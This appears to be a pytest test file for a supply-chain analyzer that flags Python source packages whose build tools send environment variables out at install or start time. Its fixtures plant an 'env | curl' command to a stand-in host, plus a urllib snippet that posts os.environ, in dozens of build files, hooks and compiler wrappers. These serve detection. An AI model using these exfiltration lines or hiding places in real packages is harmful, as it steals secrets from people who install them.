"""What the files of further build tools have started runs with the tool; honest ones do nothing."""

import pytest
from program_of import program_of

from ostiary.core.coverage import Reach
from ostiary.program.flow import Act, Taint
from ostiary.program.model import Program

SENDS = "env | curl -d @- https://c.example.invalid/"
SETUP = (
    "import os, subprocess\nfrom setuptools import setup\n{}\nsetup(name='sample', version='1.0')\n"
)
RUST = 'fn main() {{ Command::new("sh").arg("-c").arg("{}").spawn(); }}\n'
SYSTEM = "import os\ndef {}(ctx):\n    os.system('" + SENDS + "')\n"


def sent(program: Program) -> list[tuple[str, Reach]]:
    """The files that send the environment, and when."""
    several = [one for one in program.flows if one.act is Act.SEND and one.has(Taint.ENVIRONMENT)]
    return sorted({(one.at.path.removeprefix("sample-1.0/"), one.reach) for one in several})


def built(command: str, files: dict[str, str]) -> Program:
    return program_of("sdist", {"setup.py": SETUP.format(command), **files})


STARTED = {
    "bazel build //:x": ("BUILD", f'genrule(name = "x", outs = ["a"], cmd = "{SENDS}")\n'),
    "bazelisk build //x": ("d.bzl", f'def f(c):\n    c.execute(["sh", "-c", "{SENDS}"])\n'),
    "go generate ./...": ("a.go", f"package a\n//go:generate {SENDS}\n"),
    "go run ./t": ("t/a.go", f'func main() {{ exec.Command("sh", "-c", "{SENDS}").Run() }}\n'),
    "scons -Q": ("SConstruct", f"import os\nos.system('{SENDS}')\n"),
    "python waf configure": ("wscript", SYSTEM.format("configure")),
    "nox -s a": ("noxfile.py", SYSTEM.format("a")),
    "invoke a": ("tasks.py", SYSTEM.format("a")),
    "premake5 gmake": ("premake5.lua", f'os.execute("{SENDS}")\n'),
    "qmake x.pro": ("x.pro", f"TEMPLATE = lib\nsystem({SENDS})\n"),
    "node-gyp rebuild": ("binding.gyp", f'{{"actions": [{{"action": ["sh", "-c", "{SENDS}"]}}]}}'),
    "autoreconf -fi": ("configure.ac", f"AC_INIT([x], m4_esyscmd([{SENDS}]))\n"),
    "just a": ("justfile", f"a:\n    @{SENDS}\n"),
    "task a": ("Taskfile.yml", f'tasks:\n  a:\n    cmds:\n      - cmd: "{SENDS}"\n'),
    "tox -e a": ("tox.ini", f"[testenv:a]\ncommands = {SENDS}\n"),
    "gradle build": (
        "build.gradle",
        f'task x(type: Exec) {{ commandLine "sh", "-c", "{SENDS}" }}\n',
    ),
    "mvn package": ("pom.xml", f"<project><argument>{SENDS}</argument></project>"),
    "ant x": ("build.xml", f'<exec executable="sh"><arg value="-c"/><arg value="{SENDS}"/></exec>'),
    "cargo xtask a": ("xtask/src/main.rs", RUST.format(SENDS)),
    "dune build": ("src/dune", f'(rule (targets a) (action (system "{SENDS}")))\n'),
    "protoc --plugin=protoc-gen-x=t/g.sh a.proto": ("t/g.sh", f"#!/bin/sh\n{SENDS}\n"),
    "perl build.pl": ("build.pl", f'system("{SENDS}");\n'),
    "cmake -P t/s.txt": ("t/s.txt", f'execute_process(COMMAND sh -c "{SENDS}")\n'),
    "cmake -E env A=1 sh t/x.sh": ("t/x.sh", f"{SENDS}\n"),
    "pip install ./sub": ("sub/setup.py", f"import os\nos.system('{SENDS}')\n"),
    "make -Csub": ("sub/Makefile", f"all:\n\t{SENDS}\n"),
    "nmake /f win.mak": ("win.mak", f"all:\n\t{SENDS}\n"),
    "make": ("Makefile.in", f"define RUN\n{SENDS}\nendef\nall: @X@\n\t$(call RUN,a)\n"),
    "sh -c 'cd sub && make'": ("sub/Makefile", f"all:\n\t{SENDS}\n"),
}


@pytest.mark.parametrize("command", STARTED)
def test_what_a_tool_reads_that_a_setup_script_starts(command: str) -> None:
    name, text = STARTED[command]
    files = {"sub/setup.cfg": "", "waf": "#!/usr/bin/env python\nprint(1)\n", name: text}
    assert sent(built(f"os.system({command!r})", files)) == [(name, Reach.INSTALL)]
    assert (name, Reach.INSTALL) not in sent(built("", files))  # nobody starts the tool


@pytest.mark.parametrize(
    "command",
    [
        "subprocess.check_call(['make'], cwd='sub')",
        "subprocess.check_call(['make'], cwd=os.path.join(os.path.dirname(__file__), 'sub'))",
        "os.chdir('sub'); os.system('make')",
        "os.system('cd sub && make')",
    ],
)
def test_a_tool_in_another_folder(command: str) -> None:
    files = {"sub/Makefile": "include rules.mk\n", "sub/rules.mk": f"all:\n\t{SENDS}\n"}
    assert sent(built(command, files)) == [("sub/rules.mk", Reach.INSTALL)]


def test_what_honest_files_of_such_tools_do() -> None:
    files = {
        "BUILD": 'genrule(name = "x", outs = ["a"], cmd = "cp $(SRCS) $@ && chmod +x $@")\n',
        "WORKSPACE": 'http_archive(name = "a", urls = ["https://a.example.invalid/a.tgz"])\n',
        "a.go": 'package a\n//go:generate stringer -type=X\nvar x = exec.Command("git", "describe")\n',
        "SConstruct": "import os\nenv = Environment(ENV=os.environ)\nenv.Program('x', 'a.c')\n",
        "sub/Makefile": "CC = gcc\nall: a.o\n\t$(CC) -o x a.o\nfetch:\n\tcurl -LO https://a.example.invalid/\n",
        "Makefile.in": "srcdir = @srcdir@\nall:\n\t@CC@ -c a.c\n",
        "configure.ac": "AC_INIT([x], m4_esyscmd([git describe]))\nAC_CHECK_PROG([A], [curl], [yes])\n",
        "build.gradle": 'repositories { maven { url "https://a.example.invalid/m2" } }\n',
        "tox.ini": f"[testenv:release]\ncommands = {SENDS}\n",
    }
    several = ("bazel build", "go generate", "scons", "make -C sub", "autoreconf", "gradle", "make")
    program = built("\n".join(f"os.system({one!r})" for one in several), files)
    assert not [one for one in program.flows if one.act is Act.SEND or one.has(Taint.NETWORK)]
    assert not program.unfinished


def test_more_words_than_are_read_are_said() -> None:
    words = '"sh", ' + ", ".join(f'"a{n}"' for n in range(300))
    program = built("os.system('bazel build //:x')", {"BUILD": f"x = [{words}]\n"})
    assert [one.path for one in program.unfinished] == ["sample-1.0/BUILD"]


MESON, MATURIN, SCIKIT = "mesonpy", "maturin", "scikit_build_core.build"
SCRIPT = f"#!/bin/sh\n{SENDS}\n"
TOLD = {
    "a native file of meson": (MESON, "", "n.ini", f"[binaries]\nc = ['sh', '-c', '{SENDS}']\n"),
    "an option of meson": (MESON, "", "meson.options", f"option('c', value: '{SENDS}')\n"),
    "a list of CMake that is included": (
        SCIKIT,
        "",
        "t/more.txt",
        f'execute_process(COMMAND sh -c "{SENDS}")\n',
    ),
    "a tool chain of CMake": (
        SCIKIT,
        '[tool.scikit-build]\ncmake.toolchain-file = "t/chain.txt"',
        "t/chain.txt",
        f'execute_process(COMMAND sh -c "{SENDS}")\n',
    ),
    "a compiler": (
        SCIKIT,
        '[tool.scikit-build]\ncmake.args = ["-DCMAKE_C_COMPILER=t/cc.sh"]',
        "t/cc.sh",
        SCRIPT,
    ),
    "a linker for cargo": (
        MATURIN,
        '[tool.maturin]\nrustc-args = ["-Clinker=t/w.sh"]',
        "t/w.sh",
        SCRIPT,
    ),
    "a setting of cargo": (
        MATURIN,
        "[tool.maturin]\nconfig = [\"build.rustc-wrapper = 't/w.sh'\"]",
        "t/w.sh",
        SCRIPT,
    ),
    "a build script of another name": (MATURIN, "", "ci/gen.rs", RUST.format(SENDS)),
    "a macro": (MATURIN, "", "m/src/lib.rs", RUST.format(SENDS)),
    "packages of npm": (
        "hatchling.build",
        '[tool.hatch.build.hooks.jupyter-builder]\nbuild-function = "hatch_jupyter_builder.npm_builder"',
        "package.json",
        f'{{"scripts": {{"postinstall": "{SENDS}"}}}}',
    ),
    "a program in the place of SWIG": (
        "setuptools.build_meta",
        "",
        "t/swig.sh",
        SCRIPT,
    ),
}
AROUND = {
    "meson.build": "project('x', 'c')\n",
    "CMakeLists.txt": "project(x)\ninclude(t/more.txt)\n",
    "Cargo.toml": '[package]\nname = "x"\nbuild = "ci/gen.rs"\n',
    "m/Cargo.toml": "[lib]\nproc-macro = true\n",
    "setup.cfg": "[build_ext]\nswig = t/swig.sh\n",
}


@pytest.mark.parametrize("what", TOLD)
def test_what_manifests_hand_to_a_build(what: str) -> None:
    backend, table, name, text = TOLD[what]
    project = f'[build-system]\nrequires = []\nbuild-backend = "{backend}"\n{table}\n'
    files = {**AROUND, "pyproject.toml": project, name: text}
    assert sent(program_of("sdist", files)) == [(name, Reach.INSTALL)]
    plain = text.replace(SENDS, "gcc --version")
    assert not sent(program_of("sdist", {**files, name: plain}))


def test_a_command_that_describes_a_checkout() -> None:
    for backend, table in (
        ("setuptools.build_meta", "tool.setuptools_scm"),
        ("hatchling.build", "tool.hatch.version.raw-options"),
    ):
        head = f'[build-system]\nrequires = []\nbuild-backend = "{backend}"\n[{table}]\n'
        bad = f'{head}git_describe_command = ["sh", "-c", "{SENDS}"]\n'
        assert sent(program_of("sdist", {"pyproject.toml": bad})) == [
            ("pyproject.toml", Reach.INSTALL)
        ]
        good = head + 'git_describe_command = "git describe --dirty --long"\n'
        assert not sent(program_of("sdist", {"pyproject.toml": good}))


TAKES = (
    "import os, urllib.request\n"
    "urllib.request.urlopen('https://c.example.invalid/', data=str(dict(os.environ)).encode())\n"
)


def test_code_that_hatch_puts_at_every_start() -> None:
    head = '[build-system]\nrequires = []\nbuild-backend = "hatchling.build"\n'
    hook = "[tool.hatch.build.targets.wheel.hooks.autorun]\n"
    project = f"{head}{hook}code = '''\n{TAKES}'''\n"
    assert sent(program_of("sdist", {"pyproject.toml": project})) == [
        ("pyproject.toml", Reach.START)
    ]
    project = f'{head}{hook}file = "t/first.py"\n'
    assert sent(program_of("sdist", {"pyproject.toml": project, "t/first.py": TAKES})) == [
        ("t/first.py", Reach.START)
    ]


@pytest.mark.parametrize(
    "words",
    [
        "cffi_modules=['b.py:go']",
        "use_scm_version={'version_scheme': go}",
        "use_scm_version=lambda: {'parse': go}",
        f"use_scm_version={{'git_describe_command': '{SENDS}'}}",
    ],
)
def test_what_setup_hands_to_plugins(words: str) -> None:
    taking = "".join(f"    {one}\n" for one in TAKES.splitlines())
    go = f"def go(*a):\n{taking}"
    setup = f"from setuptools import setup\nfrom b import go\nsetup(name='sample', version='1', {words})\n"
    program = program_of("sdist", {"setup.py": setup, "b.py": go})
    assert Reach.INSTALL in {when for _, when in sent(program)}
    plain = setup.replace(words, "cffi_modules=['c.py:ffi'], use_scm_version=True")
    assert Reach.INSTALL not in {
        when for _, when in sent(program_of("sdist", {"setup.py": plain, "b.py": go}))
    }


def test_a_build_file_that_was_not_kept_is_said() -> None:
    text = f"run_command('sh', '-c', '{SENDS}')\n" + "# x\n" * 300_000
    project = '[build-system]\nrequires = []\nbuild-backend = "mesonpy"\n'
    program = program_of("sdist", {"pyproject.toml": project, "meson.build": text})
    assert [(one.path, one.reach) for one in program.unfinished] == [
        ("sample-1.0/meson.build", Reach.INSTALL)
    ]
